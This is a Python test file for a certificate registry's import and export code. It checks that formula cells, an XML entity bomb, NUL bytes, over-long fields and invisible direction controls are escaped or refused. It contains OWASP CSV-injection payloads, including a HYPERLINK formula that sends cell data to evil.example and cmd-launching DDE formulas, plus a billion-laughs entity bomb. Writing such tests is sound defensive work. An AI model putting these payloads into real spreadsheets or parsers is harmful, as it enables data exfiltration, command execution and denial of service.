"""Hostile import files and exports (issue 12, findings 1, 9 and 10): formula cells, huge fields,
entity bombs, NUL bytes, over-long values and direction controls. Each is refused with its row and
column, nothing is written, and SQLite and PostgreSQL answer alike because the checks run in Python.
"""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from casys.accounts.scoping import unscoped
from casys.attestations.models import Attestation
from casys.registry.services import importer
from casys.registry.services.template import KEYS
from tests.registry.test_import import _csv, _import, _row

pytestmark = pytest.mark.django_db(transaction=True)

#: OWASP "CSV Injection" examples, as the security probe sent them (issue 12, finding 1).
FORMULAE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def _csv_cells(rows):
    """CSV text with each row given as a dict of cells, quoted by the csv module."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(KEYS)
    for over in rows:
        base = dict(zip(KEYS, next(csv.reader([_row(0)])), strict=True))
        base.update(over)
        writer.writerow([base[k] for k in KEYS])
    return out.getvalue().encode()


def _nothing_written():
    with unscoped():
        return Attestation.all_objects.count() == 0


@pytest.fixture
def formula_rows(body_a):
    rows = [{"certificate_number": f"F-{i}", "certified_entity_name": f} for i, f in enumerate(FORMULAE)]
    rows.append({"certificate_number": "F-scope", "scope": "=1+1\nsecond line"})
    _import(body_a, _csv_cells(rows))
    return body_a


def test_formula_payloads_are_stored_as_typed(formula_rows):
    with unscoped():
        rows = Attestation.all_objects.filter(number__startswith="F-")
        names = sorted(rows.values_list("holder_name", flat=True))
    assert sorted(FORMULAE) == [n for n in names if n in FORMULAE]


def test_the_cli_csv_export_makes_every_formula_cell_text(formula_rows):
    out = io.StringIO()
    with unscoped():
        importer.write_csv(Attestation.all_objects.order_by("number"), out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for f in FORMULAE:
        assert "'" + f in cells


def test_the_anonymous_csv_export_makes_every_formula_cell_text(formula_rows, client):
    response = client.get("/registry/export.csv", {"issuer": formula_rows.slug})
    text = b"".join(response.streaming_content).decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAE[0] in cells


def test_the_xlsx_export_writes_formulae_as_string_cells(formula_rows, tmp_path):
    path = tmp_path / "out.xlsx"
    with unscoped():
        importer.write_xlsx(Attestation.all_objects.order_by("number"), path)
    ws = load_workbook(path).worksheets[0]  # not read-only: cell types are kept
    types = {cell.data_type for row in ws.iter_rows(min_row=2) for cell in row}
    assert types == {"s"}, "a formula cell ('f') would run in the spreadsheet"
    assert "'" + FORMULAE[1] in [cell.value for row in ws.iter_rows(min_row=2) for cell in row]


def test_the_json_export_keeps_the_text_as_it_was_typed(formula_rows, client):
    response = client.get("/registry/export.json", {"issuer": formula_rows.slug})
    doc = json.loads(b"".join(response.streaming_content))
    assert sorted(FORMULAE) == sorted(
        c["certified_entity_name"] for c in doc["certificates"] if c["certified_entity_name"] in FORMULAE
    )


def test_an_exported_file_imports_back_to_the_same_text(formula_rows, tmp_path):
    with unscoped():
        importer.write_xlsx(Attestation.all_objects.order_by("number"), tmp_path / "out.xlsx")
        out = io.StringIO()
        importer.write_csv(Attestation.all_objects.order_by("number"), out)
    files = ((out.getvalue().encode(), "out.csv"), ((tmp_path / "out.xlsx").read_bytes(), "out.xlsx"))
    for data, name in files:
        result = _import(formula_rows, data, name)
        assert result["unchanged"] == result["rows"] == len(FORMULAE) + 1, name


def test_a_ten_megabyte_csv_field_is_refused_with_its_row(body_a):
    data = _csv([_row(1), _row(2, scope="x" * 10_000_000)])
    with pytest.raises(importer.ImportFileError, match=r"row 3, column -: not readable as CSV"):
        _import(body_a, data)
    assert _nothing_written()


def _xlsx_with_sheet_xml(sheet_xml: bytes) -> bytes:
    """A valid workbook whose first sheet's XML is replaced by ``sheet_xml``."""
    wb = Workbook()
    wb.active.append(list(KEYS))
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename)
            dst.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_entity_bomb_is_refused_as_not_a_workbook(body_a):
    lol = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{lol}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    with pytest.raises(importer.ImportFileError, match="not an XLSX workbook"):
        _import(body_a, _xlsx_with_sheet_xml(bomb), "bomb.xlsx")
    assert _nothing_written()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("certified_entity_name", "Nul\x00Byte Ltd", "contains the control character U+0000"),
        ("scope", "Scope with a NUL \x00", "contains the control character U+0000"),
        ("certificate_number", "9" * 5000, "is 5000 characters long; at most 120 are allowed"),
        ("certified_entity_name", "N" * 5000, "is 5000 characters long; at most 300 are allowed"),
        ("certified_entity_name", "\u202eevil Ltd", "contains the invisible direction control U+202E"),
        ("certified_entity_name_en", "Good \u2066Ltd", "contains the invisible direction control U+2066"),
        ("address", "Street 1\u202b", "contains the invisible direction control U+202B"),
    ],
)
def test_a_bad_cell_is_refused_naming_row_and_column(body_a, column, value, message):
    data = _csv_cells([{"certificate_number": "OK-1"}, {"certificate_number": "BAD-1", column: value}])
    with pytest.raises(importer.ImportFileError) as err:
        _import(body_a, data)
    assert [str(e) for e in err.value.errors] == [f"row 3, column {column}: {message}"]
    assert _nothing_written()


def test_an_address_may_keep_its_line_breaks(body_a):
    _import(body_a, _csv_cells([{"address": "Street 1\nLV-1010 Rīga"}]))
    with unscoped():
        assert Attestation.all_objects.get().holder_address == "Street 1\nLV-1010 Rīga"


def test_an_anonymous_caller_is_limited_in_exports(formula_rows, client, settings):
    settings.CASYS_EXPORT_RATE = "2/m"
    codes = [client.get("/registry/export.json").status_code for _ in range(4)]
    assert codes == [200, 200, 429, 429]
